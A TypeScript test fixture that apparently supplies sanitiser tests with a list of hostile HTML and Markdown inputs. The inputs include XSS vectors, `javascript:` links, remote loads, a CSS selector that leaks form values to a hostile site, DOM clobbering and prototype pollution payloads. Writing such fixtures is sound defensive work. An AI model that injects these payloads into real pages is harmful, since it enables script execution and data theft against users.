/**
 * Texts that become code, requests or other elements in pages that are careless with them. Each one that runs calls
 * `alert`, sets `globalThis.pwned`, or asks something of the hostile site.
 *
 * @param site origin of the hostile site
 */
export function hostileTexts(site: string): string[] {
  const host = new URL(site).host;
  return [
    // Scripts, also broken, nested and in other cases
    `<script>alert(1);globalThis.pwned=1</script>`,
    `<script src="${site}/x.js"></script>`,
    `<ScRiPt\n>pwned=1</sCrIpT >`,
    `<scr<script>ipt>pwned=1</scr</script>ipt>`,
    `"><script>pwned=1</script><x y="`,
    `</title></textarea></style><script>pwned=1</script>`,
    `<script type="module">import "${site}/m.js"</script>`,
    `<script type="importmap">{"imports":{"preact":"${site}/p.js"}}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=pwned=1>">`,
    // Handlers
    `<img src=x onerror=alert(1)>`,
    `<img src="${site}/i.png" onload=pwned=1>`,
    `<IMG """><img src=x onerror=pwned=1>">`,
    `<body onload=pwned=1>`,
    `<input autofocus onfocus=pwned=1>`,
    `<details open ontoggle=pwned=1><summary>x</summary></details>`,
    `<video><source onerror="pwned=1"></video>`,
    `<audio src=x onerror=pwned=1>`,
    `<marquee onstart=pwned=1>x</marquee>`,
    `<div onpointerover="pwned=1" style="position:fixed;inset:0">x</div>`,
    `<a href="#" onclick="pwned=1" autofocus>x</a>`,
    `<x style="animation-name:spin" onanimationstart=pwned=1>`,
    // SVG and MathML
    `<svg onload=alert(1)>`,
    `<svg><script>pwned=1</script></svg>`,
    `<svg><animate onbegin=pwned=1 attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:pwned=1"><text y=20>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J3B3bmVkPTEnLz4=#x"></use></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=pwned=1>">`,
    `<math href="javascript:pwned=1">x</math>`,
    // Frames and other documents
    `<iframe src="javascript:parent.pwned=1"></iframe>`,
    `<iframe srcdoc="<img src=x onerror=parent.pwned=1>"></iframe>`,
    `<iframe src="${site}/frame"></iframe>`,
    `<object data="${site}/o.html"></object><embed src="${site}/e.html">`,
    `<portal src="${site}/p"></portal>`,
    // Where the page leads, and what it asks for
    `<meta http-equiv="refresh" content="0;url=${site}/refresh">`,
    `<base href="${site}/">`,
    `<link rel="stylesheet" href="${site}/s.css"><link rel="prefetch" href="${site}/f">`,
    `<link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="//${host}">`,
    `<form action="${site}/form"><input name=q value=x><button>x</button></form>`,
    `<button formaction="javascript:pwned=1" form=composer>x</button>`,
    `<style>@import "${site}/i.css"; * { background: url(${site}/b.png) !important }</style>`,
    `<style>input[value^="a"]{background:url(${site}/?a)} :root{display:none}</style>`,
    `<p style="background:url(${site}/st.png);position:fixed;inset:0;z-index:99999">x</p>`,
    `<img srcset="${site}/set.png 1x"><picture><source srcset="${site}/pic.png"></picture>`,
    `<table background="${site}/t.png"><td background="${site}/td.png">x</table>`,
    // Markdown that loads or leads elsewhere
    `![picture](${site}/md.png)`,
    `![x](${site}/md2.png "t" onerror=pwned=1)`,
    `![ref][pic]\n\n[pic]: ${site}/ref.png`,
    `[x](javascript:alert(1))`,
    `[x](JaVaScRiPt:pwned=1)`,
    `[x](java\tscript:pwned=1) [x](java&#10;script:pwned=1) [x](&#106;avascript:pwned=1)`,
    `[x](\u0001javascript:pwned=1) [x](javascript&colon;pwned=1) [x](//${host}/protocol-relative)`,
    `[x](data:text/html,<script>pwned=1</script>) [x](data:image/svg+xml;base64,PHN2Zy8+)`,
    `[x](vbscript:pwned=1) [x](blob:${site}/1) [x](file:///etc/passwd) [x](view-source:${site})`,
    `<javascript:pwned=1> <data:text/html,x> ${site}/bare-link`,
    `[x]: javascript:pwned=1\n\n[x] [click me][x]`,
    `[a](<javascript:pwned=1> "b") [x](https://good.example@${host}/) [x](https:${host})`,
    `[" onmouseover="pwned=1](${site}/"onmouseover="pwned=1)`,
    '```html" onmouseover="pwned=1\n<img src=x onerror=pwned=1>\n```',
    "```<img/src=x/onerror=pwned=1>\nx\n```",
    "`<img src=x onerror=pwned=1>` and ``<svg onload=pwned=1>``",
    `| <img src=x onerror=pwned=1> | [x](javascript:pwned=1) |\n| --- | :-: |\n| <svg onload=pwned=1> | ![x](${site}/c.png) |`,
    `- [ ] <img src=x onerror=pwned=1>\n- [x] [x](javascript:pwned=1)`,
    `# <img src=x onerror=pwned=1>\n> <svg onload=pwned=1>`,
    // Names that take the place of the page's own
    `<form id=root><input name=attributes><input name=parentNode></form><img name=getElementById>`,
    `<a id=app></a><a id=app name=endpoint href="${site}">x</a><iframe name=location></iframe>`,
    `<div id="composer"></div><dialog open id="permission">Allowed</dialog>`,
    // Templates and prototypes
    `{{constructor.constructor('pwned=1')()}} \${pwned=1} <%= pwned=1 %> #{pwned=1} {%raw%}`,
    `{"__proto__":{"pwned":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned=1>"}}`,
    `__proto__ constructor toString hasOwnProperty`,
    // Entities, control characters, and what hides or turns round
    `&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62; &#x3C;svg/onload=pwned=1&#x3E;`,
    `\u0000<img src=x onerror=pwned=1>\u0008\u001b]8;;${site}\u0007x\u001b]8;;\u0007`,
    `\u202ejavascript:pwned=1\u202c \u2066txt.exe\u2069 \u200b\u200d\ufeff \u{e0041}\u{e0042}`,
    `<!--><img src=x onerror=pwned=1>--> <![CDATA[<img src=x onerror=pwned=1>]]> <?xml <svg onload=pwned=1> ?>`,
    `${"<b>".repeat(2_000)}${"(".repeat(500)}${"[".repeat(500)}${"*".repeat(500)}`,
    `${"A".repeat(20_000)} ${"\u0301".repeat(500)} ${"👩‍👩‍👧‍👦".repeat(100)}`,
  ];
}
